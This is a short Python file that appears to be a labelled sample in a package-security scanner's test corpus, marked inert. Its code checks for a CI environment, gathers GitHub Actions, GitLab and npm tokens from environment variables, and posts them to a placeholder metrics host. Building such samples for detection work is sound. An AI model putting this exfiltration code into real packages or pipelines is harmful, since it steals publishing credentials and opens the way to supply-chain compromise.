# pkgguard corpus 492 (credentials), modelled on [ctx]; inert, never run.
import os

import requests

wanted = ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "CI_JOB_TOKEN", "NPM_TOKEN")
if os.environ.get("CI"):
    found = {k: os.environ[k] for k in wanted if k in os.environ}
    if found:
        requests.post("https://ci-metrics.example/r", json=found, timeout=10)
